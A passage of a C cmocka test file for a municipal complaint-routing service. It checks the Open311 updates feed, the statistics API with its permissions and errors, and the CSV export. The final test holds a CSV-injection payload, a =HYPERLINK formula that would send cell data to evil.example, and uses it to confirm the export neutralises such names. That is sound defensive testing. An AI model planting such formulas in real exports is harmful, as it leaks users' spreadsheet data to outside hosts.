        buf_free(&b);
    }
    /* fields: ids as strings, +08:00 times in order, descriptions (note, rating, state) */
    size_t i;
    json_t *u;
    const char *last = "";
    int n_rate = 0, n_note = 0;
    json_array_foreach(all, i, u)
    {
        assert_true(json_is_string(json_object_get(u, "update_id")));
        assert_string_equal(json_string_value(json_object_get(u, "media_url")), "");
        const char *at = json_string_value(json_object_get(u, "updated_datetime"));
        assert_int_equal(strlen(at), 25);
        assert_string_equal(at + 19, "+08:00");
        assert_true(strcmp(at, last) >= 0);
        last = at;
        const char *d = json_string_value(json_object_get(u, "description"));
        n_rate += !strcmp(d, "居民评价：满意");
        n_note += !strcmp(d, "超期后办结");
    }
    /* satisfied ratings: A_SAT, A_ESC, A_UNSAT_SAT (second), B_SAT, A_LATE_SAT, but of AID */
    assert_int_equal(n_rate, count_kind_public(A_SAT) + count_kind_public(A_ESC) + count_kind_public(A_UNSAT_SAT) +
                                 count_kind_public(B_SAT) + count_kind_public(A_LATE_SAT));
    assert_int_equal(n_note, count_kind(A_LATE_SAT) + count_kind(A_LATE_UNRATED) + count_kind(A_LATE_REOPEN));
    /* every transition of ours in the window is there once */
    buf_t codes = BUF_INIT;
    codes_of(-1, &codes);
    const char *p[] = {buf_str(&codes), g_dup};
    long long ours = h_sql_int(g_db,
                               "SELECT count(*) FROM router.transition tr JOIN router.ticket t USING (ticket_id)"
                               " WHERE t.code = ANY ($1::text[]) OR t.code = $2",
                               2, p);
    int listed = 0;
    json_array_foreach(all, i, u)
    {
        const char *c = json_string_value(json_object_get(u, "service_request_id"));
        listed += strstr(buf_str(&codes), c) != NULL || !strcmp(c, g_dup);
    }
    assert_int_equal(listed, ours);
    buf_free(&codes);
    json_decref(all);

    /* no dates: the last 24 hours by the clock (Tue 13:00 - Wed 13:00): only what T4 did.
     * Per late ticket overdue, accept, resolve; plus a rating for LATE_SAT and LATE_REOPEN. */
    int n_late = count_kind(A_LATE_SAT) + count_kind(A_LATE_UNRATED) + count_kind(A_LATE_REOPEN);
    json_t *recent = get_json("/open311/v2/servicerequestupdates.json", NULL, 200);
    assert_int_equal(json_array_size(recent), 3 * n_late + count_kind(A_LATE_SAT) + count_kind(A_LATE_REOPEN));
    json_array_foreach(recent, i, u)
        assert_string_equal(json_string_value(json_object_get(u, "updated_datetime")), "2026-03-11T13:00:00+08:00");
    buf_t b = BUF_INIT;
    statuses_of(recent, first_of(A_LATE_REOPEN)->code, &b);
    assert_string_equal(buf_str(&b), "open open fixed reopen");
    buf_free(&b);
    json_decref(recent);

    /* XML: the same updates, service_request_updates / request_update */
    h_resp_t r;
    char path[256];
    snprintf(path, sizeof path, "/open311/v2/servicerequestupdates.xml?start_date=2026-03-09T08:59:00%%2B08:00"
                                "&end_date=2026-03-09T11:01:00%%2B08:00&page_size=1000");
    assert_int_equal(call("GET", path, NULL, false, NULL, &r), 200);
    const char *x = buf_str(&r.body);
    assert_non_null(strstr(x, "<?xml"));
    assert_non_null(strstr(x, "<service_request_updates><request_update><update_id>"));
    const ticket_t *ret = first_of(A_RET);
    buf_t seq = BUF_INIT;
    for (const char *s = strstr(x, "<request_update>"); s; s = strstr(s + 1, "<request_update>")) {
        const char *e = strstr(s, "</request_update>");
        char id[96];
        snprintf(id, sizeof id, "<service_request_id>%s</service_request_id>", ret->code);
        const char *hit = strstr(s, id);
        if (!hit || hit > e)
            continue;
        const char *st = strstr(s, "<status>") + 8;
        buf_printf(&seq, "%s%.*s", seq.len ? " " : "", (int)(strstr(st, "</status>") - st), st);
        const char *m = strstr(s, "<media_url></media_url>");
        assert_true(m && m < e);
    }
    assert_string_equal(buf_str(&seq), "open internal_referral open open fixed closed");
    buf_free(&seq);
    h_resp_free(&r);

    /* a window over 90 days, or backwards, is refused */
    json_decref(get_json("/open311/v2/servicerequestupdates.json?start_date=2026-01-01T00:00:00Z"
                         "&end_date=2026-04-15T00:00:00Z", NULL, 400));
    json_decref(get_json("/open311/v2/servicerequestupdates.json?start_date=2026-03-10T00:00:00Z"
                         "&end_date=2026-03-09T00:00:00Z", NULL, 400));
    assert_int_equal(call("GET", "/open311/v2/servicerequestupdates.xml?start_date=yesterday", NULL, false, NULL, &r), 400);
    assert_non_null(strstr(buf_str(&r.body), "<errors><error>"));
    h_resp_free(&r);
}

/* ---- T5 ----------------------------------------------------------------------------------- */

static void deadlines_pass_with_the_router_stopped(void **state)
{
    (void)state;
    int st = h_stop(g_router, SIGTERM);
    g_router = 0;
    assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
    set_clock(local_time(12, 17, 0));
    /* the open tickets past their deadline, as planned: A_OPEN LIGHT/POLICY, B_OPEN and B_REOPEN NOISE */
    buf_t b = BUF_INIT;
    codes_of(-1, &b);
    char now[32];
    snprintf(now, sizeof now, "%lld", g_now);
    const char *p[] = {buf_str(&b), now};
    assert_int_equal(h_sql_int(g_db,
                               "SELECT count(*) FROM router.ticket WHERE code = ANY ($1::text[])"
                               " AND state IN ('assigned', 'accepted', 'in_progress') AND resolve_due < to_timestamp($2::float8)",
                               2, p),
                     expected((filter_t){-1, -1, -1, 0}).overdue);
    buf_free(&b);
}

/* ---- tests: the figures ------------------------------------------------------------------- */

static void village_rows_are_its_groups(void **state)
{
    (void)state;
    char path[256];
    snprintf(path, sizeof path, "/api/v1/stats?unit=%s&from=2026-03-09&to=2026-03-10", VILLAGE);
    json_t *j = get_json(path, tok_op, 200);
    assert_string_equal(json_string_value(json_object_get(json_object_get(j, "unit"), "code")), VILLAGE);
    assert_string_equal(json_string_value(json_object_get(json_object_get(j, "unit"), "name")), "石门村");
    assert_string_equal(json_string_value(json_object_get(json_object_get(j, "unit"), "level")), "village");
    assert_string_equal(json_string_value(json_object_get(j, "from")), "2026-03-09");
    assert_string_equal(json_string_value(json_object_get(j, "to")), "2026-03-10");
    assert_true(json_is_null(json_object_get(j, "service_code")));
    /* one row per group of the village, ours with their figures, the others empty */
    const char *vp[] = {VILLAGE};
    long long kids = h_sql_int(g_db, "SELECT count(*) FROM registry.unit WHERE parent_id = (SELECT id FROM registry.unit WHERE code = $1)", 1, vp);
    assert_int_equal(json_array_size(json_object_get(j, "rows")), kids);
    size_t i;
    json_t *r;
    json_array_foreach(json_object_get(j, "rows"), i, r)
    {
        const char *code = json_string_value(json_object_get(r, "code"));
        assert_string_equal(json_string_value(json_object_get(r, "level")), "group");
        int g = !strcmp(code, GROUPS[0]) ? 0 : !strcmp(code, GROUPS[1]) ? 1 : -1;
        exp_t e = g >= 0 ? expected((filter_t){g, -1, -1, 0}) : ZERO;
        check_row(r, &e, code);
    }
    exp_t v = expected((filter_t){-1, 0, -1, 0});
    check_row(json_object_get(j, "total"), &v, "village total");
    /* by hand: the village's received count; groups 0 and 1 per category
     *   LIGHT g0 13+6 g1 14+7   POLICY g0 15+7 g1 16+8   NOISE g0 18+8 g1 21+9   AID g0 16+9 g1 18+10 */
    assert_int_equal(v.received, 19 + 21 + 22 + 24 + 26 + 30 + 25 + 28);
    json_decref(j);
}

static void each_group_on_its_own(void **state)
{
    (void)state;
    for (int g = 0; g < N_GROUPS; g++) {
        char path[256];
        snprintf(path, sizeof path, "/api/v1/stats?unit=%s&from=2026-03-09&to=2026-03-10", GROUPS[g]);
        json_t *j = get_json(path, tok_op, 200);
        assert_int_equal(json_array_size(json_object_get(j, "rows")), 0); /* a group has no children */
        exp_t e = expected((filter_t){g, -1, -1, 0});
        check_row(json_object_get(j, "total"), &e, GROUPS[g]);
        json_decref(j);
    }
}

static void township_as_a_child_of_the_county(void **state)
{
    (void)state;
    char path[128];
    snprintf(path, sizeof path, "/api/v1/stats?unit=%s&from=2026-03-09&to=2026-03-10", COUNTY);
    json_t *j = get_json(path, tok_op, 200);
    assert_int_equal(json_array_size(json_object_get(j, "rows")), 3);
    exp_t all = expected((filter_t){-1, -1, -1, 0});
    check_row(row_by_code(j, TOWNSHIP), &all, "黄花镇 in the county");
    assert_string_equal(json_string_value(json_object_get(row_by_code(j, TOWNSHIP), "name")), "黄花镇");
    assert_string_equal(json_string_value(json_object_get(row_by_code(j, TOWNSHIP), "level")), "township");
    /* the county's own rows hold the same sums as its townships' */
    const json_t *tot = json_object_get(j, "total");
    static const char *const sums[] = {"received", "resolved", "resolved_on_time", "rated", "satisfied",
                                       "resolve_work_s", "escalations", "returns"};
    for (size_t k = 0; k < 8; k++) {
        long long s = 0;
        size_t i;
        json_t *r;
        json_array_foreach(json_object_get(j, "rows"), i, r) s += json_integer_value(json_object_get(r, sums[k]));
        assert_int_equal(json_integer_value(json_object_get(tot, sums[k])), s);
    }
    json_decref(j);
    /* the township: its villages */
    j = get_json("/api/v1/stats?unit=430121-103&from=2026-03-09&to=2026-03-10", tok_op, 200);
    exp_t v1 = expected((filter_t){-1, 0, -1, 0}), v2 = expected((filter_t){-1, 1, -1, 0});
    check_row(row_by_code(j, VILLAGE), &v1, VILLAGE);
    check_row(row_by_code(j, VILLAGE2), &v2, VILLAGE2);
    check_row(json_object_get(j, "total"), &all, "township total");
    json_decref(j);
}

static void per_category(void **state)
{
    (void)state;
    const char *units[] = {VILLAGE, TOWNSHIP, GROUPS[0]};
    const filter_t base[] = {{-1, 0, -1, 0}, {-1, -1, -1, 0}, {0, -1, -1, 0}};
    for (int u = 0; u < 3; u++) {
        char path[256];
        snprintf(path, sizeof path, "/api/v1/stats?unit=%s&from=2026-03-09&to=2026-03-10&group_by=service", units[u]);
        json_t *j = get_json(path, tok_op, 200);
        assert_string_equal(json_string_value(json_object_get(j, "group_by")), "service");
        long long n_services = h_sql_int(g_db, "SELECT count(*) FROM registry.service WHERE active", 0, NULL);
        assert_int_equal(json_array_size(json_object_get(j, "rows")), n_services);
        size_t i;
        json_t *r;
        json_array_foreach(json_object_get(j, "rows"), i, r)
        {
            const char *code = json_string_value(json_object_get(r, "code"));
            int c = -1;
            for (int k = 0; k < N_CATS; k++)
                if (!strcmp(CATS[k], code))
                    c = k;
            filter_t f = base[u];
            f.cat = c;
            exp_t e = c >= 0 ? expected(f) : ZERO;
            char label[96];
            snprintf(label, sizeof label, "%s %s", units[u], code);
            check_row(r, &e, label);
        }
        exp_t t = expected(base[u]);
        check_row(json_object_get(j, "total"), &t, units[u]);
        if (u == 2) {
            /* group 0, 噪声, by hand (see KINDS):
             *   received  A 5+2+1+2+2+2+2+1+1 = 18, B 4+1+1+1+1 = 8        → 26
             *   resolved  A 5+2+1+2+2+2+2+1 = 17,   B 4+1+1 = 6            → 23   办结率 0.8846
             *   on time   17 - 3 late = 14,         B 6                    → 20   按时 20/23 = 0.8696
             *   rated     A 5+2+1+2+2+2 = 14,       B 5 → 19; satisfied 13 + 5 = 18 → 0.9474
             *   work      (5+2+2)·7200 + 3·30600 + 2·16200 + 3·57600 + 6·7200 = 405000 s → 4.89 h
             *   escalations 2 + 4 = 6; overdue now B_OPEN 1 + B_REOPEN 1 = 2 */
            const json_t *n = row_by_code(j, "NOISE");
            assert_int_equal(json_integer_value(json_object_get(n, "received")), 26);
            assert_int_equal(json_integer_value(json_object_get(n, "resolved")), 23);
            assert_true(fabs(json_real_value(json_object_get(n, "closure_rate")) - 0.8846) < 1e-9);
            assert_true(fabs(json_real_value(json_object_get(n, "on_time_rate")) - 0.8696) < 1e-9);
            assert_true(fabs(json_real_value(json_object_get(n, "satisfaction_rate")) - 0.9474) < 1e-9);
            assert_int_equal(json_integer_value(json_object_get(n, "resolve_work_s")), 405000);
            assert_true(fabs(json_real_value(json_object_get(n, "avg_resolve_work_hours")) - 4.89) < 1e-9);
            assert_int_equal(json_integer_value(json_object_get(n, "escalations")), 6);
            assert_int_equal(json_integer_value(json_object_get(n, "overdue_now")), 2);
        }
        json_decref(j);
    }
    /* one category across the village's groups */
    json_t *j = get_json("/api/v1/stats?unit=430121-103-06&from=2026-03-09&to=2026-03-10&service_code=NOISE", tok_op, 200);
    assert_string_equal(json_string_value(json_object_get(j, "service_code")), "NOISE");
    for (int g = 0; g < 2; g++) {
        exp_t e = expected((filter_t){g, -1, NOISE, 0});
        check_row(row_by_code(j, GROUPS[g]), &e, GROUPS[g]);
    }
    exp_t e = expected((filter_t){-1, 0, NOISE, 0});
    check_row(json_object_get(j, "total"), &e, "village NOISE");
    json_decref(j);
}

static void periods(void **state)
{
    (void)state;
    /* one day: batch B only (overdue_now stays a live count) */
    json_t *j = get_json("/api/v1/stats?unit=430121-103-06&from=2026-03-10&to=2026-03-10", tok_op, 200);
    exp_t b = expected((filter_t){-1, 0, -1, 'B'});
    check_row(json_object_get(j, "total"), &b, "village on 03-10");
    exp_t g1 = expected((filter_t){1, -1, -1, 'B'});
    check_row(row_by_code(j, GROUPS[1]), &g1, "group 1 on 03-10");
    json_decref(j);
    j = get_json("/api/v1/stats?unit=430121-103-06&from=2026-03-09&to=2026-03-09", tok_op, 200);
    exp_t a = expected((filter_t){-1, 0, -1, 'A'});
    check_row(json_object_get(j, "total"), &a, "village on 03-09");
    json_decref(j);
    /* no dates: the last 30 days to today by the clock (Thu 03-12) */
    j = get_json("/api/v1/stats?unit=430121-103-06", tok_op, 200);
    assert_string_equal(json_string_value(json_object_get(j, "from")), "2026-02-11");
    assert_string_equal(json_string_value(json_object_get(j, "to")), "2026-03-12");
    exp_t all = expected((filter_t){-1, 0, -1, 0});
    check_row(json_object_get(j, "total"), &all, "village, last 30 days");
    json_decref(j);
    /* from alone runs to today */
    j = get_json("/api/v1/stats?unit=430121-103-06&from=2026-03-10", tok_op, 200);
    assert_string_equal(json_string_value(json_object_get(j, "to")), "2026-03-12");
    check_row(json_object_get(j, "total"), &b, "village from 03-10");
    json_decref(j);
    /* a week before: nothing */
    j = get_json("/api/v1/stats?unit=430121-103-06&from=2026-03-01&to=2026-03-08", tok_op, 200);
    exp_t none = {.overdue = all.overdue};
    check_row(json_object_get(j, "total"), &none, "village the week before");
    json_decref(j);
}

static void scope_and_errors(void **state)
{
    (void)state;
    /* a township supervisor: their township and what is below */
    json_decref(get_json("/api/v1/stats?unit=430121-103", tok_sup, 200));
    json_decref(get_json("/api/v1/stats?unit=430121-103-06-05", tok_sup, 200));
    json_decref(get_json("/api/v1/stats?unit=430121-102", tok_sup, 403));
    json_decref(get_json("/api/v1/stats?unit=430121-102-01", tok_sup, 403));
    json_decref(get_json("/api/v1/stats?unit=430121", tok_sup, 403));
    json_decref(get_json("/api/v1/stats?unit=430121-103-06", tok_sup2, 403));
    /* default: the caller's own unit */
    json_t *j = get_json("/api/v1/stats?from=2026-03-09&to=2026-03-10", tok_sup, 200);
    assert_string_equal(json_string_value(json_object_get(json_object_get(j, "unit"), "code")), TOWNSHIP);
    exp_t all = expected((filter_t){-1, -1, -1, 0});
    check_row(json_object_get(j, "total"), &all, "supervisor's township");
    json_decref(j);
    /* a village handler: the village, not the township */
    json_decref(get_json("/api/v1/stats?unit=430121-103-06", tok_vh, 200));
    json_decref(get_json("/api/v1/stats?unit=430121-103-06-08", tok_vh, 200));
    json_decref(get_json("/api/v1/stats?unit=430121-103", tok_vh, 403));
    json_decref(get_json("/api/v1/stats?unit=430121-103-04", tok_vh, 403));
    json_decref(get_json("/api/v1/stats.csv?unit=430121-103", tok_vh, 403));
    /* the operator: everything */
    json_decref(get_json("/api/v1/stats?unit=430121-102-01", tok_op, 200));
    /* no token, a wrong token */
    json_decref(get_json("/api/v1/stats?unit=430121-103", NULL, 401));
    json_decref(get_json("/api/v1/stats.csv?unit=430121-103", NULL, 401));
    json_decref(get_json("/api/v1/stats?unit=430121-103", "not-a-token", 401));
    /* bad input */
    static const char *const bad[] = {
        "from=2026-02-30",           "from=2026-3-01",          "to=20260310",       "from=2026-03-10&to=2026-03-09",
        "from=2016-03-01&to=2026-03-09", "from=2026-13-01",     "from=x",            "group_by=village",
        "service_code=NOPE",         "from=1899-12-31&to=1900-01-01",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        char path[256];
        snprintf(path, sizeof path, "/api/v1/stats?unit=430121-103&%s", bad[i]);
        j = get_json(path, tok_op, 400);
        assert_non_null(json_object_get(j, "error"));
        json_decref(j);
    }
    /* the longest period allowed: 3660 days */
    json_decref(get_json("/api/v1/stats?unit=430121-103&from=2016-03-02&to=2026-03-09", tok_op, 200));
    json_decref(get_json("/api/v1/stats?unit=430121-999", tok_op, 404));
    json_decref(get_json("/api/v1/stats.csv?unit=430121-999", tok_op, 404));
    h_resp_t r;
    assert_int_equal(call("POST", "/api/v1/stats", tok_op, false, "{}", &r), 405);
    h_resp_free(&r);
}

/* The CSV's percentage for num/den as the JSON's rounded fraction shows it. */
static void pct(const json_t *rate, char out[32])
{
    if (json_is_null(rate)) {
        out[0] = '\0';
        return;
    }
    long long v = llround(json_number_value(rate) * 1e4);
    snprintf(out, 32, "%lld.%02lld%%", v / 100, v % 100);
}

static void csv_matches_json(void **state)
{
    (void)state;
    const char *q = "unit=430121-103-06&from=2026-03-09&to=2026-03-10";
    char path[256];
    snprintf(path, sizeof path, "/api/v1/stats.csv?%s", q);
    h_resp_t r;
    assert_int_equal(call("GET", path, tok_op, false, NULL, &r), 200);
    const char *h = buf_str(&r.headers);
    assert_non_null(strcasestr(h, "Content-Type: text/csv; charset=utf-8\r\n"));
    assert_non_null(
        strcasestr(h, "Content-Disposition: attachment; filename=\"closure-rates-430121-103-06-2026-03-09-2026-03-10.csv\"\r\n"));
    const char *body = buf_str(&r.body);
    assert_memory_equal(body, "\xEF\xBB\xBF", 3);
    /* CRLF line ends, nothing else */
    for (const char *s = body; *s; s++)
        if (*s == '\n')
            assert_true(s > body && s[-1] == '\r');
        else if (*s == '\r')
            assert_true(s[1] == '\n');
    assert_true(r.body.len > 2 && !strcmp(body + r.body.len - 2, "\r\n"));
    const char *header = "单位编码,单位,层级,受理数,办结数,办结率,按时办结数,按时办结率,评价数,满意数,满意率,"
                         "平均办结时长(工作小时),超期未办结,升级次数,退单次数\r\n";
    assert_memory_equal(body + 3, header, strlen(header));

    snprintf(path, sizeof path, "/api/v1/stats?%s", q);
    json_t *j = get_json(path, tok_op, 200);
    json_t *rows = json_object_get(j, "rows");
    /* data lines: one per child unit, then the total */
    char *copy = strdup(body + 3 + strlen(header));
    size_t line = 0;
    char *save = NULL;
    for (char *l = strtok_r(copy, "\r\n", &save); l; l = strtok_r(NULL, "\r\n", &save), line++) {
        bool total = line == json_array_size(rows);
        const json_t *row = total ? json_object_get(j, "total") : json_array_get(rows, line);
        assert_non_null(row);
        char want[512], r1[32], r2[32], r3[32], avg[32] = "";
        pct(json_object_get(row, "closure_rate"), r1);
        pct(json_object_get(row, "on_time_rate"), r2);
        pct(json_object_get(row, "satisfaction_rate"), r3);
        const json_t *a = json_object_get(row, "avg_resolve_work_hours");
        if (!json_is_null(a)) {
            long long v = llround(json_number_value(a) * 100);
            snprintf(avg, sizeof avg, "%lld.%02lld", v / 100, v % 100);
        }
        const char *code = total ? VILLAGE : json_string_value(json_object_get(row, "code"));
        const char *name = total ? "合计（石门村）" : json_string_value(json_object_get(row, "name"));
        snprintf(want, sizeof want, "%s,%s,%s,%lld,%lld,%s,%lld,%s,%lld,%lld,%s,%s,%lld,%lld,%lld", code, name,
                 total ? "村" : "组", (long long)json_integer_value(json_object_get(row, "received")),
                 (long long)json_integer_value(json_object_get(row, "resolved")), r1,
                 (long long)json_integer_value(json_object_get(row, "resolved_on_time")), r2,
                 (long long)json_integer_value(json_object_get(row, "rated")),
                 (long long)json_integer_value(json_object_get(row, "satisfied")), r3, avg,
                 (long long)json_integer_value(json_object_get(row, "overdue_now")),
                 (long long)json_integer_value(json_object_get(row, "escalations")),
                 (long long)json_integer_value(json_object_get(row, "returns")));
        assert_string_equal(l, want);
    }
    assert_int_equal(line, json_array_size(rows) + 1);
    /* and the percentages are what was done: group 0 by hand from the plan */
    exp_t e = expected((filter_t){0, -1, -1, 0});
    char g0[256];
    long long c = llround((double)e.resolved * 1e4 / (double)e.received);
    snprintf(g0, sizeof g0, "%s,%s,组,%lld,%lld,%lld.%02lld%%,", GROUPS[0],
             json_string_value(json_object_get(row_by_code(j, GROUPS[0]), "name")), e.received, e.resolved, c / 100,
             c % 100);
    assert_non_null(strstr(body, g0));
    free(copy);
    json_decref(j);
    h_resp_free(&r);

    /* by category: its own header */
    assert_int_equal(call("GET", "/api/v1/stats.csv?unit=430121-103-06&from=2026-03-09&to=2026-03-10&group_by=service",
                          tok_op, false, NULL, &r),
                     200);
    assert_non_null(strstr(buf_str(&r.body), "\xEF\xBB\xBF类别编码,类别,受理数,"));
    assert_non_null(strstr(buf_str(&r.body), "\r\nNOISE,噪声扰民,"));
    h_resp_free(&r);
}

/* A category an administrator named like a spreadsheet formula reaches the export as text: a
 * single quote in front, inside quotes (OWASP CSV injection); the JSON keeps the name as it is. */
static void csv_neutralises_names_that_look_like_formulas(void **state)
{
    (void)state;
    const char *name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    const char *p[] = {name};
    PQclear(PQexecParams(g_db, "DELETE FROM registry.service WHERE code = '-CSVTEST'", 0, NULL, NULL, NULL, NULL, 0));
    PGresult *ins = PQexecParams(g_db,
                                 "INSERT INTO registry.service (code, name, grp, sort) VALUES ('-CSVTEST', $1, '测试', 9999)",
                                 1, NULL, p, NULL, NULL, 0);
    assert_int_equal(PQresultStatus(ins), PGRES_COMMAND_OK);
    PQclear(ins);
    h_resp_t r;
    long st = call("GET", "/api/v1/stats.csv?unit=430121-103-06&from=2026-03-09&to=2026-03-10&group_by=service", tok_op,
                   false, NULL, &r);
    json_t *j = get_json("/api/v1/stats?unit=430121-103-06&from=2026-03-09&to=2026-03-10&group_by=service", tok_op, 200);
    PQclear(PQexecParams(g_db, "DELETE FROM registry.service WHERE code = '-CSVTEST'", 0, NULL, NULL, NULL, NULL, 0));
    assert_int_equal(st, 200);
    const char *want = "\r\n\"'-CSVTEST\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\",0,0,,0,,0,0,,,0,0,0\r\n";
    if (!strstr(buf_str(&r.body), want))
        fail_msg("no neutralised row in the CSV:\n%s", buf_str(&r.body));
    /* no cell of the file begins with = any more */
    assert_null(strstr(buf_str(&r.body), ",="));
    assert_null(strstr(buf_str(&r.body), "\n="));
    const json_t *row = row_by_code(j, "-CSVTEST");
    assert_non_null(row);
    assert_string_equal(json_string_value(json_object_get(row, "name")), name);
    json_decref(j);
    h_resp_free(&r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(fixture_runs_through_the_week),
        cmocka_unit_test(updates_feed_lists_the_transitions),
        cmocka_unit_test(deadlines_pass_with_the_router_stopped),
        cmocka_unit_test(village_rows_are_its_groups),
        cmocka_unit_test(each_group_on_its_own),
        cmocka_unit_test(township_as_a_child_of_the_county),
        cmocka_unit_test(per_category),
        cmocka_unit_test(periods),
        cmocka_unit_test(scope_and_errors),
        cmocka_unit_test(csv_matches_json),
        cmocka_unit_test(csv_neutralises_names_that_look_like_formulas),
    };
    return cmocka_run_group_tests_name("stats", tests, setup, teardown);
}
